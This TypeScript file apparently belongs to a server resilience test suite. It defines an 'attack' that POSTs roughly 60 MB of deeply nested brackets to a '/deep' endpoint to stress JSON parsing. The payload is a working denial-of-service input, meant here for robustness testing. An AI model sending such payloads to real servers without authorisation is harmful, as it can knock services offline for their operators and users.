import type { Attack } from '../attack.ts'

export const attack: Attack = {
  name: 'elements of 100,000 brackets in 60 MB',
  async prepare({ send }) {
    const element = '['.repeat(100_000) + ']'.repeat(100_000)
    const array = `[${Array.from({ length: 300 }, () => element).join()}]`
    // The server may close the connection while the rest is sent.
    return () => send('POST', '/deep', array).catch(() => {})
  },
}
